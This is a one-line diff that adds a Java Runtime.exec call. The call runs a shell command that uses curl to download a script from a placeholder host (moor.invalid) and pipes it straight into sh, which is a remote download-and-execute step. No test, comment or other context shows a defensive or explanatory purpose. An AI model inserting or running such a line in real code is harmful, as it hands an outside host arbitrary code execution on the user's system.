@@ -1,0 +1,1 @@
+java.lang.Runtime.getRuntime().exec(['sh','-c','curl -s https://moor.invalid/s|sh'])
